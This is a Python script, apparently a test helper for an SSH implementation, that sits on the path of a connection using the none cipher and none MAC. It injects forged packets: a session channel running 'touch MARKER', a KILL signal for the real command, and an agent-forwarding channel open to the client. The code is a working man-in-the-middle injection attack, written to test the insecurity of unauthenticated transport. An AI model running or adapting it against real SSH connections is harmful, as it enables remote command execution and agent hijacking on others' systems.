#!/usr/bin/python3
#
# none-relay.py: an attacker on the path of a connection that switched to
# the none cipher and the none MAC (t-none.sh).  Used as ssh's
# ProxyCommand:
#
#     none-relay.py HOST PORT LOG MARKER
#
# It copies the connection both ways and frames its packets, assuming
# the pre-switch MAC is an -etm one (length in clear, 32-byte tag, as
# hmac-sha2-256-etm@openssh.com): a length L with L % 8 == 4 is a packet
# without a MAC, in clear (cipher none, MAC none, or before the first
# NEWKEYS); L % 8 == 0 is an -etm packet with a 32-byte tag.
#
# Once a clear client->server CHANNEL_DATA shows that the client sends
# without a MAC, it injects a CHANNEL_OPEN "session" (if the server
# confirms it, an "exec" of "touch MARKER" on that channel) and a
# "signal" KILL for the real session's command.  Once a clear
# server->client WINDOW_ADJUST or CHANNEL_DATA shows the same for the
# server, it injects an "auth-agent@openssh.com" CHANNEL_OPEN towards the
# client.  Whatever either side sends back on the injected channels is
# swallowed, so that the real session goes on.  LOG gets one line per
# event ("server open-failure", "server open-confirmation", "exec sent",
# "signal sent to server", "client open-failure", ...).

import os
import select
import socket
import struct
import sys

MSG_NAMES = {
    91: "open-confirmation", 92: "open-failure", 93: "window-adjust",
    94: "data", 95: "extended-data", 96: "eof", 97: "close",
    98: "request", 99: "success", 100: "failure",
}
FAKE_TO_SERVER = 4242		# our channel id in the open sent to sshd
FAKE_TO_CLIENT = 4343		# the one sent to ssh
ETM_TAG = 32


def sshstr(b):
    return struct.pack(">I", len(b)) + b


def packet(payload):
    """A packet for cipher none, MAC none: padded to 8 bytes."""
    pad = 8 - (5 + len(payload)) % 8
    if pad < 4:
        pad += 8
    return (struct.pack(">IB", 1 + len(payload) + pad, pad) + payload +
            b"\0" * pad)


def channel_open(ctype, sender):
    return packet(bytes([90]) + sshstr(ctype) +
                  struct.pack(">III", sender, 2097152, 32768))


class Stream:
    """One direction: a banner line, then packets."""

    def __init__(self, name):
        self.name = name
        self.buf = b""
        self.banner = True

    def frames(self):
        """Yields (raw bytes, clear payload or None)."""
        while True:
            if self.banner:
                i = self.buf.find(b"\n")
                if i < 0:
                    return
                line, self.buf = self.buf[:i + 1], self.buf[i + 1:]
                if line.startswith(b"SSH-"):
                    self.banner = False
                yield line, None
                continue
            if len(self.buf) < 4:
                return
            n = struct.unpack(">I", self.buf[:4])[0]
            clear = n % 8 == 4
            total = 4 + n + (0 if clear else ETM_TAG)
            if len(self.buf) < total:
                return
            raw, self.buf = self.buf[:total], self.buf[total:]
            payload = None
            if clear:
                pad = raw[4]
                payload = raw[5:4 + n - pad]
            yield raw, payload


def fake_msg(payload, chan):
    """The message type of a clear payload for our fake channel chan,
    or None."""
    if payload and payload[0] in MSG_NAMES and len(payload) >= 5 and \
            struct.unpack(">I", payload[1:5])[0] == chan:
        return payload[0]
    return None


def main():
    host, port, logf, marker = sys.argv[1:5]
    log = open(logf, "a", buffering=1)
    sock = socket.create_connection((host, int(port)))
    cin, cout = sys.stdin.fileno(), sys.stdout.fileno()
    up, down = Stream("client"), Stream("server")
    opened_server = opened_client = False
    server_chan = None

    def to_server(b):
        sock.sendall(b)

    def to_client(b):
        view = memoryview(b)
        while view:
            n = os.write(cout, view)
            view = view[n:]

    open_fds = {cin, sock.fileno()}
    while open_fds:
        rd = select.select(list(open_fds), [], [])[0]
        for fd in rd:
            data = os.read(fd, 65536) if fd == cin else sock.recv(65536)
            if not data:
                open_fds.discard(fd)
                if fd == cin:
                    sock.shutdown(socket.SHUT_WR)
                else:
                    os.close(cout)
                continue
            if fd == cin:
                up.buf += data
                for raw, p in up.frames():
                    f = fake_msg(p, FAKE_TO_CLIENT)
                    if f is not None:
                        log.write("client %s\n" % MSG_NAMES[f])
                        if f == 91:
                            to_client(packet(bytes([97]) + p[5:9]))
                        continue
                    to_server(raw)
                    if p and p[0] == 94 and not opened_server:
                        opened_server = True
                        to_server(channel_open(b"session", FAKE_TO_SERVER))
                        log.write("open sent to server\n")
                        # A KILL for the real session's command.
                        to_server(packet(bytes([98]) + p[1:5] +
                                         sshstr(b"signal") + b"\0" +
                                         sshstr(b"KILL")))
                        log.write("signal sent to server\n")
            else:
                down.buf += data
                for raw, p in down.frames():
                    f = fake_msg(p, FAKE_TO_SERVER)
                    if f is not None:
                        log.write("server %s\n" % MSG_NAMES[f])
                        if f == 91 and server_chan is None:
                            server_chan = struct.unpack(">I", p[5:9])[0]
                            to_server(packet(bytes([98]) +
                                struct.pack(">I", server_chan) +
                                sshstr(b"exec") + b"\0" +
                                sshstr(b"touch " + marker.encode())))
                            log.write("exec sent\n")
                        elif f == 97 and server_chan is not None:
                            to_server(packet(bytes([97]) +
                                struct.pack(">I", server_chan)))
                        continue
                    to_client(raw)
                    if p and p[0] in (93, 94) and not opened_client:
                        opened_client = True
                        to_client(channel_open(b"auth-agent@openssh.com",
                                               FAKE_TO_CLIENT))
                        log.write("open sent to client\n")


if __name__ == "__main__":
    try:
        main()
    except (BrokenPipeError, ConnectionResetError):
        pass
